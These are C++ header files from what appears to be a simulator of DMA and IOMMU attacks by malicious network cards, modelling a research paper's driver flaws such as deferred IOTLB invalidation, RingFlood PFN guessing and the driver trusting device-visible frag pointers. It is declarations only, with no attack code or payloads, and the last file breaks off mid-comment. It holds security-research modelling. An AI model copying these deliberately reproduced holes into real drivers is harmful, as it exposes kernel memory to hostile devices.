//     §5.5).

#ifndef SPV_NET_STACK_H_
#define SPV_NET_STACK_H_

#include <cstdint>
#include <map>
#include <span>
#include <vector>

#include "base/status.h"
#include "base/types.h"
#include "dma/kernel_memory.h"
#include "net/gro.h"
#include "net/nic_driver.h"
#include "net/skbuff.h"
#include "slab/slab_allocator.h"

namespace spv::net {

class NetworkStack {
 public:
  struct Config {
    uint32_t local_ip = 0x0a000001;  // 10.0.0.1
    bool forwarding_enabled = false;
    uint32_t linear_tx_threshold = 512;  // larger payloads go into frags
  };

  struct Stats {
    uint64_t rx_delivered = 0;
    uint64_t rx_forwarded = 0;
    uint64_t rx_dropped = 0;
    uint64_t rx_length_errors = 0;  // header payload_len over-claims skb->len
    uint64_t tx_sent = 0;
    uint64_t echoed = 0;
    // TX packets dropped because the egress device was quarantined/detached
    // (PostTx came back kRevoked). Shedding is not an error: the stack keeps
    // serving while spv::recovery decides the device's fate.
    uint64_t tx_shed = 0;
  };

  NetworkStack(dma::KernelMemory& kmem, slab::SlabAllocator& slab, SkbAllocator& skb_alloc,
               Config config);

  NetworkStack(const NetworkStack&) = delete;
  NetworkStack& operator=(const NetworkStack&) = delete;

  void set_callback_invoker(CallbackInvoker* invoker) { invoker_ = invoker; }
  void set_egress(NicDriver* driver) { egress_ = driver; }
  // Optional causal span tracer (per-packet RX/TX spans): nullptr detaches.
  void set_tracer(trace::Tracer* tracer) { tracer_ = tracer; }

  // Creates a kernel socket object bound to `port`. The object is kmalloc'd
  // and stores the init_net pointer at offset 8 (sk->sk_net), exactly the
  // data §2.4 scans leaked pages for. Returns the socket object's KVA.
  Result<Kva> CreateSocket(uint16_t port, bool echo);

  // RX entry point (napi_gro_receive): GRO, then delivery or forwarding.
  Status NapiGroReceive(SkBuffPtr skb);

  // End of NAPI poll: flush GRO batches through delivery.
  Status NapiComplete();

  // Userspace-initiated TX: copies `payload` into kernel buffers and posts to
  // the egress driver. Payloads above linear_tx_threshold are placed in frags
  // (the TCP-stack-with-fragments shape of Fig 8).
  Status SendPacket(const PacketHeader& header, std::span<const uint8_t> payload);

  // TX completion from the driver: unmap, then kfree_skb — which invokes the
  // (device-exposed) destructor callback.
  Status OnTxCompleted(uint32_t tx_index);

  Status FreeSkb(SkBuffPtr skb);

  const Stats& stats() const { return stats_; }
  Kva init_net_kva() const { return init_net_; }
  const Config& config() const { return config_; }

  // Reassembles the full payload (linear + frags) of an skb. Used by the echo
  // service and by tests to check end-to-end delivery.
  Result<std::vector<uint8_t>> ReadPayload(const SkBuff& skb);

 private:
  struct Socket {
    Kva object;
    bool echo;
  };

  Status Deliver(SkBuffPtr skb);
  Status Forward(SkBuffPtr skb);
  Status Echo(const SkBuff& skb);
  void Drop(telemetry::Hub& hub, uint64_t len, std::string reason);
  // Accounts a TX packet dropped on a revoked egress device.
  void Shed(uint64_t len, std::string_view path);

  dma::KernelMemory& kmem_;
  slab::SlabAllocator& slab_;
  SkbAllocator& skb_alloc_;
  Config config_;
  GroEngine gro_;
  CallbackInvoker* invoker_ = nullptr;
  NicDriver* egress_ = nullptr;
  trace::Tracer* tracer_ = nullptr;
  std::map<uint16_t, Socket> sockets_;
  Kva init_net_;
  Stats stats_;
};

}  // namespace spv::net

#endif  // SPV_NET_STACK_H_
