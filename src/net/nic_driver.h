// NIC driver model: RX/TX rings over the DMA API.
//
// Configurable to reproduce the driver behaviours the paper measures:
//   * unmap_before_build=false — the prevalent i40e-like ordering that builds
//     the sk_buff (initializing skb_shared_info) while the page is still
//     mapped, handing the device a legitimate overwrite window (Fig 7 (i));
//   * unmap_before_build=true  — the correct order, which is still defeated
//     by deferred IOTLB invalidation (Fig 7 (ii)) and by type (c) neighbour
//     IOVAs from the page_frag RX allocation scheme (Fig 7 (iii));
//   * hw_lro — 64 KiB RX buffers (mlx5/bnx2x style), inflating the driver's
//     memory footprint, which is what makes RingFlood PFN-guessing easy on
//     kernel 4.15 (§5.3).

#ifndef SPV_NET_NIC_DRIVER_H_
#define SPV_NET_NIC_DRIVER_H_

#include <cstdint>
#include <deque>
#include <optional>
#include <string>
#include <string_view>
#include <vector>

#include "base/clock.h"
#include "base/status.h"
#include "base/types.h"
#include "dma/dma_api.h"
#include "dma/kernel_memory.h"
#include "net/nic_device_model.h"
#include "net/skbuff.h"
#include "recovery/supervised.h"

namespace spv::fault {
class FaultEngine;
}  // namespace spv::fault

namespace spv::net {

// Verdict of an attached XDP program (§5.1's zero-copy BIDIRECTIONAL case).
enum class XdpVerdict : uint8_t {
  kPass,  // continue up the stack
  kDrop,  // count and free
  kTx,    // bounce back out of the same NIC (packet rewritten in place)
};

// An XDP program: runs on the raw buffer *while it is still DMA-mapped
// BIDIRECTIONAL*, which is precisely why XDP drivers map RX that way.
class XdpProgram {
 public:
  virtual ~XdpProgram() = default;
  virtual XdpVerdict Run(dma::KernelMemory& kmem, Kva data, uint32_t len) = 0;
};

class NicDriver : public recovery::SupervisedDriver {
 public:
  struct Config {
    std::string name = "nic0";
    CpuId cpu{0};
    uint32_t rx_ring_size = 64;
    uint32_t tx_ring_size = 64;
    uint32_t rx_buf_len = 2048;   // data capacity per RX buffer
    bool unmap_before_build = true;
    bool hw_lro = false;          // allocate 64 KiB per RX entry regardless of MTU
    bool xdp = false;             // XDP attached: RX buffers mapped BIDIRECTIONAL (§5.1)
    // Real i40e-style page reuse: RX completions call dma_sync_single_for_cpu
    // instead of dma_unmap — the mapping (and the device's write access)
    // persists for the life of the ring, in ANY IOMMU mode.
    bool sync_only_rx = false;
    uint64_t tx_timeout_cycles = SimClock::MsToCycles(5000);
    // After a failed RX refill the driver waits this long before retrying
    // (bounded backoff: a starved allocator is not hammered every completion).
    uint64_t refill_retry_backoff_cycles = SimClock::MsToCycles(1);
    // A watchdog-flushed TX skb is reposted at most this many times before
    // the driver gives up and frees it.
    uint32_t tx_requeue_max_attempts = 3;
    // NAPI-style budget for the driver's polling loops (ring fill, refill
    // retry, TX requeue): a loop that has burned this many sim cycles yields,
    // leaving the rest for the next poll. Keeps a slow path (fault-stalled
    // invalidations, a starved allocator) from wedging the caller.
    uint64_t poll_deadline_cycles = SimClock::MsToCycles(2);
  };

  static constexpr uint32_t kLroBufBytes = 64 * 1024;

  NicDriver(DeviceId device_id, dma::DmaApi& dma, dma::KernelMemory& kmem,
            SkbAllocator& skb_alloc, SimClock& clock, Config config);

  NicDriver(const NicDriver&) = delete;
  NicDriver& operator=(const NicDriver&) = delete;

  void AttachDevice(NicDeviceModel* device) { device_ = device; }

  // Optional fault hook (the kNic* sites): nullptr detaches.
  void set_fault_engine(fault::FaultEngine* engine) { fault_ = engine; }

  // Optional causal span tracer (RX/TX path spans): nullptr detaches.
  void set_tracer(trace::Tracer* tracer) { tracer_ = tracer; }

  // Attaches an XDP program; only meaningful with config.xdp = true (the
  // driver maps RX buffers BIDIRECTIONAL for in-place rewrites).
  void AttachXdp(XdpProgram* program) { xdp_program_ = program; }
  uint64_t xdp_drops() const { return xdp_drops_; }
  uint64_t xdp_tx() const { return xdp_tx_; }

  // ---- RX -------------------------------------------------------------------

  // Allocates + maps a buffer for every empty RX slot and posts descriptors.
  Status FillRxRing();

  // Driver-side completion after the device wrote `pkt_len` bytes into slot
  // `index`: builds the sk_buff (per the configured ordering), refills the
  // slot, returns the packet. Device-originated garbage (an injected drop,
  // truncation or descriptor-writeback fault) is dropped with accounting and
  // returns a null skb — only caller misuse returns an error.
  Result<SkBuffPtr> CompleteRx(uint32_t index, uint32_t pkt_len);

  // Retries refills for slots a failed allocation left empty, once the
  // backoff window has passed. Returns the number of slots refilled. Called
  // opportunistically from CompleteRx; exposed for NAPI-style polling loops.
  uint32_t RetryRefills();

  // ---- TX -------------------------------------------------------------------

  // Maps the skb (linear TO_DEVICE + every frag page TO_DEVICE) and posts a
  // TX descriptor. The driver trusts the frags[] in the DEVICE-VISIBLE
  // shared_info — faithfully reproducing the Forward-Thinking hole (§5.5).
  Result<uint32_t> PostTx(SkBuffPtr skb);

  // Device signalled completion: unmap everything and hand the skb back for
  // release.
  Result<SkBuffPtr> CompleteTx(uint32_t index);

  // TX watchdog: slots pending longer than tx_timeout_cycles are flushed; the
  // count of resets is reported (a failed-to-appear completion "triggers a TX
  // T/O error that flushes all buffers and resets the driver", §5.4).
  // Flushed skbs are unmapped and parked on a bounded requeue list rather
  // than leaked; RequeueTimedOut() reposts them.
  uint32_t CheckTxTimeout();

  // Reposts skbs the watchdog flushed. Each skb gets at most
  // tx_requeue_max_attempts tries before it is freed. Returns the number
  // successfully reposted.
  uint32_t RequeueTimedOut();

  // Releases everything the driver holds: unmaps and frees every posted RX
  // buffer, flushes pending TX slots and drains the requeue list. Returns the
  // first error encountered but keeps going (best-effort teardown).
  Status Shutdown() override;

  // SupervisedDriver re-attach hook: bring the RX ring back up.
  Status Resume() override { return FillRxRing(); }

  // ---- Introspection -----------------------------------------------------------

  DeviceId device_id() const { return device_id_; }
  const Config& config() const { return config_; }
  uint32_t rx_buffer_bytes() const;  // truesize of one RX buffer
  uint64_t rx_ring_memory_bytes() const {
    return uint64_t{config_.rx_ring_size} * rx_buffer_bytes();
  }
  std::optional<Kva> RxSlotKva(uint32_t index) const;
  std::optional<Iova> RxSlotIova(uint32_t index) const;
  uint32_t pending_tx() const;
  uint64_t rx_packets() const { return rx_packets_; }
  uint64_t tx_packets() const { return tx_packets_; }
  uint32_t tx_resets() const { return tx_resets_; }
  uint64_t rx_length_errors() const { return rx_length_errors_; }
  uint64_t rx_device_drops() const { return rx_device_drops_; }
  uint64_t rx_refill_failures() const { return rx_refill_failures_; }
  uint64_t tx_requeue_drops() const { return tx_requeue_drops_; }
  size_t tx_requeue_depth() const { return tx_requeue_.size(); }
  uint64_t poll_deadline_hits() const { return poll_deadline_hits_; }

 private:
  struct RxSlot {
    bool posted = false;
    Kva head;
    Iova iova;  // of head
  };
  struct TxFragMapping {
    Iova iova;
    Kva kva;
    uint32_t len;
  };
  struct TxSlot {
    bool busy = false;
    SkBuffPtr skb;
    Iova linear_iova;
    uint32_t linear_len = 0;
    std::vector<TxFragMapping> frags;
    uint64_t post_cycle = 0;
  };

  struct PendingTx {
    SkBuffPtr skb;
    uint32_t attempts = 0;
  };

  // True once the polling loop that started at `start_cycle` has exhausted
  // its budget; emits kNicPollDeadline (tagged `loop`) on the transition.
  bool PollDeadlineHit(uint64_t start_cycle, std::string_view loop);
  Status RefillSlot(uint32_t index);
  // RefillSlot, but a failure arms the retry backoff instead of propagating:
  // the ring runs one slot short until RetryRefills() succeeds.
  void RefillSlotTolerant(uint32_t index);
  Status UnmapTxSlot(TxSlot& slot);
  // PostTx body that leaves `skb` with the caller on failure (requeue path).
  Result<uint32_t> TryPostTx(SkBuffPtr& skb);
  // Drops a completion the device delivered broken: recovers the slot (repost
  // or unmap+free+refill), accounts under `counter`, returns a null skb.
  Result<SkBuffPtr> DropRxFrame(uint32_t index, uint32_t pkt_len,
                                std::string_view counter);

  DeviceId device_id_;
  dma::DmaApi& dma_;
  dma::KernelMemory& kmem_;
  SkbAllocator& skb_alloc_;
  SimClock& clock_;
  Config config_;
  NicDeviceModel* device_ = nullptr;

  std::vector<RxSlot> rx_ring_;
  std::vector<TxSlot> tx_ring_;
  std::deque<PendingTx> tx_requeue_;  // watchdog-flushed skbs awaiting repost
  XdpProgram* xdp_program_ = nullptr;
  fault::FaultEngine* fault_ = nullptr;
  trace::Tracer* tracer_ = nullptr;
  uint64_t rx_packets_ = 0;
  uint64_t tx_packets_ = 0;
  uint64_t xdp_drops_ = 0;
  uint64_t xdp_tx_ = 0;
  uint32_t tx_resets_ = 0;
  uint64_t rx_length_errors_ = 0;
  uint64_t rx_device_drops_ = 0;
  uint64_t rx_refill_failures_ = 0;
  uint64_t tx_requeue_drops_ = 0;
  uint64_t poll_deadline_hits_ = 0;
  uint64_t refill_backoff_until_ = 0;
  bool rx_needs_refill_ = false;
};

}  // namespace spv::net

#endif  // SPV_NET_NIC_DRIVER_H_
