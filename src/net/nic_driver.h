// NIC driver model: per-queue RX/TX rings over the DMA API.
//
// Configurable to reproduce the driver behaviours the paper measures:
//   * unmap_before_build=false — the prevalent i40e-like ordering that builds
//     the sk_buff (initializing skb_shared_info) while the page is still
//     mapped, handing the device a legitimate overwrite window (Fig 7 (i));
//   * unmap_before_build=true  — the correct order, which is still defeated
//     by deferred IOTLB invalidation (Fig 7 (ii)) and by type (c) neighbour
//     IOVAs from the page_frag RX allocation scheme (Fig 7 (iii));
//   * hw_lro — 64 KiB RX buffers (mlx5/bnx2x style), inflating the driver's
//     memory footprint, which is what makes RingFlood PFN-guessing easy on
//     kernel 4.15 (§5.3).
//
// Multi-queue: the driver owns config.num_queues independent queue pairs,
// each pinned to one sim CPU (like a real RSS NIC's per-CPU MSI-X vectors).
// Every ring operation takes a queue index; the historical single-queue API
// is preserved as a byte-identical delegation to queue 0. The device decides
// which RX queue a flow lands on through the Toeplitz RSS hash (net/rss.h) —
// and therefore which CPU's IOVA magazines, flush-queue shard and page_frag
// pool the buffer travels through.

#ifndef SPV_NET_NIC_DRIVER_H_
#define SPV_NET_NIC_DRIVER_H_

#include <cstdint>
#include <deque>
#include <optional>
#include <string>
#include <string_view>
#include <vector>

#include "base/clock.h"
#include "base/stat_counter.h"
#include "base/status.h"
#include "base/types.h"
#include "dma/dma_api.h"
#include "dma/kernel_memory.h"
#include "net/nic_device_model.h"
#include "net/rss.h"
#include "net/skbuff.h"
#include "recovery/supervised.h"

namespace spv::fault {
class FaultEngine;
}  // namespace spv::fault

namespace spv::net {

// Verdict of an attached XDP program (§5.1's zero-copy BIDIRECTIONAL case).
enum class XdpVerdict : uint8_t {
  kPass,  // continue up the stack
  kDrop,  // count and free
  kTx,    // bounce back out of the same NIC (packet rewritten in place)
};

// An XDP program: runs on the raw buffer *while it is still DMA-mapped
// BIDIRECTIONAL*, which is precisely why XDP drivers map RX that way.
class XdpProgram {
 public:
  virtual ~XdpProgram() = default;
  virtual XdpVerdict Run(dma::KernelMemory& kmem, Kva data, uint32_t len) = 0;
};

class NicDriver : public recovery::SupervisedDriver {
 public:
  struct Config {
    std::string name = "nic0";
    CpuId cpu{0};
    // Number of RX/TX queue pairs. Queue q runs on queue_cpus[q] when
    // provided, else on CpuId{cpu.value + q} (queue 0 always stays on `cpu`,
    // so single-queue configs behave exactly as before).
    uint32_t num_queues = 1;
    std::vector<CpuId> queue_cpus;
    uint32_t rx_ring_size = 64;   // per queue
    uint32_t tx_ring_size = 64;   // per queue
    uint32_t rx_buf_len = 2048;   // data capacity per RX buffer
    bool unmap_before_build = true;
    bool hw_lro = false;          // allocate 64 KiB per RX entry regardless of MTU
    bool xdp = false;             // XDP attached: RX buffers mapped BIDIRECTIONAL (§5.1)
    // Real i40e-style page reuse: RX completions call dma_sync_single_for_cpu
    // instead of dma_unmap — the mapping (and the device's write access)
    // persists for the life of the ring, in ANY IOMMU mode.
    bool sync_only_rx = false;
    // Degraded service (router says kBounceSync): at most this many RX
    // descriptors are posted per queue, each on a persistent bounce slot.
    // The clamp keeps an untrusted NIC's ring inside the bounce pool budget
    // so it keeps serving instead of starving on ResourceExhausted refills.
    // 0 = no extra clamp.
    uint32_t sync_ring_limit = 8;
    uint64_t tx_timeout_cycles = SimClock::MsToCycles(5000);
    // After a failed RX refill the driver waits this long before retrying
    // (bounded backoff: a starved allocator is not hammered every completion).
    uint64_t refill_retry_backoff_cycles = SimClock::MsToCycles(1);
    // A watchdog-flushed TX skb is reposted at most this many times before
    // the driver gives up and frees it.
    uint32_t tx_requeue_max_attempts = 3;
    // NAPI-style budget for the driver's polling loops (ring fill, refill
    // retry, TX requeue): a loop that has burned this many sim cycles yields,
    // leaving the rest for the next poll. The budget is PER QUEUE per entry —
    // each queue's NAPI context owns its own deadline, so one wedged queue
    // cannot starve its siblings' polls.
    uint64_t poll_deadline_cycles = SimClock::MsToCycles(2);
  };

  static constexpr uint32_t kLroBufBytes = 64 * 1024;

  NicDriver(DeviceId device_id, dma::DmaApi& dma, dma::KernelMemory& kmem,
            SkbAllocator& skb_alloc, SimClock& clock, Config config);

  NicDriver(const NicDriver&) = delete;
  NicDriver& operator=(const NicDriver&) = delete;

  void AttachDevice(NicDeviceModel* device) { device_ = device; }

  // Optional fault hook (the kNic* sites): nullptr detaches.
  void set_fault_engine(fault::FaultEngine* engine) { fault_ = engine; }

  // Optional causal span tracer (RX/TX path spans): nullptr detaches.
  void set_tracer(trace::Tracer* tracer) { tracer_ = tracer; }

  // Attaches an XDP program; only meaningful with config.xdp = true (the
  // driver maps RX buffers BIDIRECTIONAL for in-place rewrites).
  void AttachXdp(XdpProgram* program) { xdp_program_ = program; }
  uint64_t xdp_drops() const { return SumQueues(&Queue::xdp_drops); }
  uint64_t xdp_tx() const { return SumQueues(&Queue::xdp_tx); }

  // ---- RSS ------------------------------------------------------------------

  const Rss& rss() const { return rss_; }
  // The RX queue the device's RSS hash steers this flow to.
  uint32_t QueueForFlow(const FlowTuple& tuple) const { return rss_.QueueFor(tuple); }

  // ---- RX -------------------------------------------------------------------

  // Allocates + maps a buffer for every empty RX slot and posts descriptors.
  // The legacy no-argument form services queue 0 only.
  Status FillRxRing() { return FillRxRing(0); }
  Status FillRxRing(uint32_t queue);
  // Every queue, each with its own fresh poll budget.
  Status FillAllRxRings();

  // Driver-side completion after the device wrote `pkt_len` bytes into slot
  // `index` of `queue`: builds the sk_buff (per the configured ordering),
  // refills the slot, returns the packet. Device-originated garbage (an
  // injected drop, truncation or descriptor-writeback fault) is dropped with
  // accounting and returns a null skb — only caller misuse returns an error.
  Result<SkBuffPtr> CompleteRx(uint32_t index, uint32_t pkt_len) {
    return CompleteRx(0, index, pkt_len);
  }
  Result<SkBuffPtr> CompleteRx(uint32_t queue, uint32_t index, uint32_t pkt_len);

  // Retries refills for slots a failed allocation left empty, once the
  // backoff window has passed. Returns the number of slots refilled. Called
  // opportunistically from CompleteRx; exposed for NAPI-style polling loops.
  uint32_t RetryRefills() { return RetryRefills(0); }
  uint32_t RetryRefills(uint32_t queue);
  uint32_t RetryAllRefills();

  // ---- TX -------------------------------------------------------------------

  // Maps the skb (linear TO_DEVICE + every frag page TO_DEVICE) and posts a
  // TX descriptor. The driver trusts the frags[] in the DEVICE-VISIBLE
  // shared_info — faithfully reproducing the Forward-Thinking hole (§5.5).
  Result<uint32_t> PostTx(SkBuffPtr skb) { return PostTx(0, std::move(skb)); }
  Result<uint32_t> PostTx(uint32_t queue, SkBuffPtr skb);

  // Device signalled completion: unmap everything and hand the skb back for
  // release.
  Result<SkBuffPtr> CompleteTx(uint32_t index) { return CompleteTx(0, index); }
  Result<SkBuffPtr> CompleteTx(uint32_t queue, uint32_t index);

  // TX watchdog: slots pending longer than tx_timeout_cycles are flushed; the
  // count of resets is reported (a failed-to-appear completion "triggers a TX
  // T/O error that flushes all buffers and resets the driver", §5.4).
  // Flushed skbs are unmapped and parked on that queue's bounded requeue list
  // rather than leaked; RequeueTimedOut() reposts them. The no-argument form
  // runs the watchdog over every queue.
  uint32_t CheckTxTimeout();
  uint32_t CheckTxTimeout(uint32_t queue);

  // Reposts skbs the watchdog flushed. Each skb gets at most
  // tx_requeue_max_attempts tries before it is freed. Returns the number
  // successfully reposted. The no-argument form drains every queue, each
  // with its own fresh poll budget.
  uint32_t RequeueTimedOut();
  uint32_t RequeueTimedOut(uint32_t queue);

  // Releases everything the driver holds: unmaps and frees every posted RX
  // buffer, flushes pending TX slots and drains the requeue lists on EVERY
  // queue. Returns the first error encountered but keeps going (best-effort
  // teardown).
  Status Shutdown() override;

  // SupervisedDriver re-attach hook: bring every RX ring back up.
  Status Resume() override { return FillAllRxRings(); }

  // Trust-probation hook (spv::policy): clamps the per-queue NAPI budget and
  // the number of RX descriptors posted per queue. A zeroed struct restores
  // the config defaults; limits only ever tighten, never exceed them.
  void ApplyDmaPolicy(const recovery::DmaPolicyLimits& limits) override {
    policy_limits_ = limits;
  }
  const recovery::DmaPolicyLimits& policy_limits() const { return policy_limits_; }

  // ---- Introspection -----------------------------------------------------------

  DeviceId device_id() const { return device_id_; }
  const Config& config() const { return config_; }
  uint32_t num_queues() const { return static_cast<uint32_t>(queues_.size()); }
  CpuId queue_cpu(uint32_t queue) const { return queues_[queue].cpu; }
  uint32_t rx_buffer_bytes() const;  // truesize of one RX buffer
  uint64_t rx_ring_memory_bytes() const {
    return uint64_t{config_.rx_ring_size} * rx_buffer_bytes();
  }
  std::optional<Kva> RxSlotKva(uint32_t index) const { return RxSlotKva(0, index); }
  std::optional<Kva> RxSlotKva(uint32_t queue, uint32_t index) const;
  std::optional<Iova> RxSlotIova(uint32_t index) const { return RxSlotIova(0, index); }
  std::optional<Iova> RxSlotIova(uint32_t queue, uint32_t index) const;
  uint32_t pending_tx() const;
  uint32_t pending_tx(uint32_t queue) const;
  uint64_t rx_packets() const { return SumQueues(&Queue::rx_packets); }
  uint64_t rx_packets(uint32_t queue) const { return queues_[queue].rx_packets; }
  uint64_t tx_packets() const { return SumQueues(&Queue::tx_packets); }
  uint64_t tx_packets(uint32_t queue) const { return queues_[queue].tx_packets; }
  uint32_t tx_resets() const { return static_cast<uint32_t>(SumQueues(&Queue::tx_resets)); }
  uint64_t rx_length_errors() const { return SumQueues(&Queue::rx_length_errors); }
  uint64_t rx_device_drops() const { return SumQueues(&Queue::rx_device_drops); }
  uint64_t rx_refill_failures() const { return SumQueues(&Queue::rx_refill_failures); }
  uint64_t tx_requeue_drops() const { return SumQueues(&Queue::tx_requeue_drops); }
  size_t tx_requeue_depth() const;
  size_t tx_requeue_depth(uint32_t queue) const { return queues_[queue].tx_requeue.size(); }
  uint64_t poll_deadline_hits() const { return SumQueues(&Queue::poll_deadline_hits); }
  uint64_t poll_deadline_hits(uint32_t queue) const {
    return queues_[queue].poll_deadline_hits;
  }
  // Frames delivered through the degraded sync-mode path (copybreak off a
  // persistent bounce slot) — the soak's availability-under-distrust signal.
  uint64_t rx_sync_frames() const { return SumQueues(&Queue::rx_sync_frames); }

  // Cross-checks every queue's ring state against the DMA mapping tracker:
  // posted RX slots and busy TX slots must be backed by live mappings of the
  // right length, and requeue lists must respect their bound. Feeds
  // Machine::CheckInvariants' cross-CPU coverage.
  Status AuditQueues() const;

 private:
  struct RxSlot {
    bool posted = false;
    Kva head;
    Iova iova;  // of head
    // Mapped persistently into a bounce slot (service mode kBounceSync at
    // refill time): completions copy the frame across with sync_for_cpu and
    // re-arm the same slot with sync_for_device instead of unmapping.
    bool sync_mode = false;
  };
  struct TxFragMapping {
    Iova iova;
    Kva kva;
    uint32_t len;
  };
  struct TxSlot {
    bool busy = false;
    SkBuffPtr skb;
    Iova linear_iova;
    uint32_t linear_len = 0;
    std::vector<TxFragMapping> frags;
    uint64_t post_cycle = 0;
  };

  struct PendingTx {
    SkBuffPtr skb;
    uint32_t attempts = 0;
  };

  // One RX/TX queue pair and everything that used to be device-global state.
  // In kThreads mode each queue is driven only by the thread for `cpu`, so
  // the plain fields need no lock; the counters are StatCounters because the
  // aggregate accessors sum them from other threads.
  struct Queue {
    Queue() = default;
    Queue(const Queue&) = delete;
    Queue& operator=(const Queue&) = delete;
    Queue(Queue&&) = default;
    Queue& operator=(Queue&&) = default;

    CpuId cpu{0};
    std::string name;  // "nic0" for queue 0, "nic0.q1", "nic0.q2", ...
    std::vector<RxSlot> rx_ring;
    std::vector<TxSlot> tx_ring;
    std::deque<PendingTx> tx_requeue;  // watchdog-flushed skbs awaiting repost
    uint64_t refill_backoff_until = 0;
    bool rx_needs_refill = false;
    StatCounter rx_packets;
    StatCounter tx_packets;
    StatCounter xdp_drops;
    StatCounter xdp_tx;
    StatCounter tx_resets;
    StatCounter rx_length_errors;
    StatCounter rx_device_drops;
    StatCounter rx_refill_failures;
    StatCounter tx_requeue_drops;
    StatCounter poll_deadline_hits;
    StatCounter rx_sync_frames;
  };

  uint64_t SumQueues(StatCounter Queue::* counter) const {
    uint64_t total = 0;
    for (const Queue& q : queues_) {
      total += q.*counter;
    }
    return total;
  }

  // Config values after the trust-policy clamp (identity when no limits are
  // in force).
  uint64_t EffectivePollDeadline() const {
    return policy_limits_.poll_deadline_cycles != 0 &&
                   policy_limits_.poll_deadline_cycles < config_.poll_deadline_cycles
               ? policy_limits_.poll_deadline_cycles
               : config_.poll_deadline_cycles;
  }
  uint32_t EffectiveRxRingLimit() const {
    return policy_limits_.ring_limit != 0 && policy_limits_.ring_limit < config_.rx_ring_size
               ? policy_limits_.ring_limit
               : config_.rx_ring_size;
  }
  // EffectiveRxRingLimit plus the sync-mode clamp: consulted per fill/refill
  // so a live demotion shrinks the ring as completed slots retire and a
  // promotion lets FillRxRing grow it back.
  uint32_t EffectiveRxRingLimitNow() const {
    uint32_t limit = EffectiveRxRingLimit();
    if (config_.sync_ring_limit != 0 && config_.sync_ring_limit < limit &&
        dma_.service_mode(device_id_) == dma::ServiceMode::kBounceSync) {
      limit = config_.sync_ring_limit;
    }
    return limit;
  }

  // True once the polling loop that started at `start_cycle` has exhausted
  // this queue's budget; emits kNicPollDeadline (tagged `loop`) on the
  // transition and charges the hit to the queue, not the device.
  bool PollDeadlineHit(Queue& q, uint64_t start_cycle, std::string_view loop);
  Status RefillSlot(Queue& q, uint32_t queue, uint32_t index);
  // RefillSlot, but a failure arms the retry backoff instead of propagating:
  // the ring runs one slot short until RetryRefills() succeeds.
  void RefillSlotTolerant(Queue& q, uint32_t queue, uint32_t index);
  Status UnmapTxSlot(Queue& q, TxSlot& slot);
  // PostTx body that leaves `skb` with the caller on failure (requeue path).
  Result<uint32_t> TryPostTx(uint32_t queue, SkBuffPtr& skb);
  // Drops a completion the device delivered broken: recovers the slot (repost
  // or unmap+free+refill), accounts under `counter`, returns a null skb.
  Result<SkBuffPtr> DropRxFrame(uint32_t queue, uint32_t index, uint32_t pkt_len,
                                std::string_view counter);

  DeviceId device_id_;
  dma::DmaApi& dma_;
  dma::KernelMemory& kmem_;
  SkbAllocator& skb_alloc_;
  SimClock& clock_;
  Config config_;
  Rss rss_;
  NicDeviceModel* device_ = nullptr;

  std::vector<Queue> queues_;
  recovery::DmaPolicyLimits policy_limits_;  // zeroed = full service
  XdpProgram* xdp_program_ = nullptr;
  fault::FaultEngine* fault_ = nullptr;
  trace::Tracer* tracer_ = nullptr;
};

}  // namespace spv::net

#endif  // SPV_NET_NIC_DRIVER_H_
