// NIC driver model: RX/TX rings over the DMA API.
//
// Configurable to reproduce the driver behaviours the paper measures:
//   * unmap_before_build=false — the prevalent i40e-like ordering that builds
//     the sk_buff (initializing skb_shared_info) while the page is still
//     mapped, handing the device a legitimate overwrite window (Fig 7 (i));
//   * unmap_before_build=true  — the correct order, which is still defeated
//     by deferred IOTLB invalidation (Fig 7 (ii)) and by type (c) neighbour
//     IOVAs from the page_frag RX allocation scheme (Fig 7 (iii));
//   * hw_lro — 64 KiB RX buffers (mlx5/bnx2x style), inflating the driver's
//     memory footprint, which is what makes RingFlood PFN-guessing easy on
//     kernel 4.15 (§5.3).

#ifndef SPV_NET_NIC_DRIVER_H_
#define SPV_NET_NIC_DRIVER_H_

#include <cstdint>
#include <optional>
#include <string>
#include <vector>

#include "base/clock.h"
#include "base/status.h"
#include "base/types.h"
#include "dma/dma_api.h"
#include "dma/kernel_memory.h"
#include "net/nic_device_model.h"
#include "net/skbuff.h"

namespace spv::net {

// Verdict of an attached XDP program (§5.1's zero-copy BIDIRECTIONAL case).
enum class XdpVerdict : uint8_t {
  kPass,  // continue up the stack
  kDrop,  // count and free
  kTx,    // bounce back out of the same NIC (packet rewritten in place)
};

// An XDP program: runs on the raw buffer *while it is still DMA-mapped
// BIDIRECTIONAL*, which is precisely why XDP drivers map RX that way.
class XdpProgram {
 public:
  virtual ~XdpProgram() = default;
  virtual XdpVerdict Run(dma::KernelMemory& kmem, Kva data, uint32_t len) = 0;
};

class NicDriver {
 public:
  struct Config {
    std::string name = "nic0";
    CpuId cpu{0};
    uint32_t rx_ring_size = 64;
    uint32_t tx_ring_size = 64;
    uint32_t rx_buf_len = 2048;   // data capacity per RX buffer
    bool unmap_before_build = true;
    bool hw_lro = false;          // allocate 64 KiB per RX entry regardless of MTU
    bool xdp = false;             // XDP attached: RX buffers mapped BIDIRECTIONAL (§5.1)
    // Real i40e-style page reuse: RX completions call dma_sync_single_for_cpu
    // instead of dma_unmap — the mapping (and the device's write access)
    // persists for the life of the ring, in ANY IOMMU mode.
    bool sync_only_rx = false;
    uint64_t tx_timeout_cycles = SimClock::MsToCycles(5000);
  };

  static constexpr uint32_t kLroBufBytes = 64 * 1024;

  NicDriver(DeviceId device_id, dma::DmaApi& dma, dma::KernelMemory& kmem,
            SkbAllocator& skb_alloc, SimClock& clock, Config config);

  NicDriver(const NicDriver&) = delete;
  NicDriver& operator=(const NicDriver&) = delete;

  void AttachDevice(NicDeviceModel* device) { device_ = device; }

  // Attaches an XDP program; only meaningful with config.xdp = true (the
  // driver maps RX buffers BIDIRECTIONAL for in-place rewrites).
  void AttachXdp(XdpProgram* program) { xdp_program_ = program; }
  uint64_t xdp_drops() const { return xdp_drops_; }
  uint64_t xdp_tx() const { return xdp_tx_; }

  // ---- RX -------------------------------------------------------------------

  // Allocates + maps a buffer for every empty RX slot and posts descriptors.
  Status FillRxRing();

  // Driver-side completion after the device wrote `pkt_len` bytes into slot
  // `index`: builds the sk_buff (per the configured ordering), refills the
  // slot, returns the packet.
  Result<SkBuffPtr> CompleteRx(uint32_t index, uint32_t pkt_len);

  // ---- TX -------------------------------------------------------------------

  // Maps the skb (linear TO_DEVICE + every frag page TO_DEVICE) and posts a
  // TX descriptor. The driver trusts the frags[] in the DEVICE-VISIBLE
  // shared_info — faithfully reproducing the Forward-Thinking hole (§5.5).
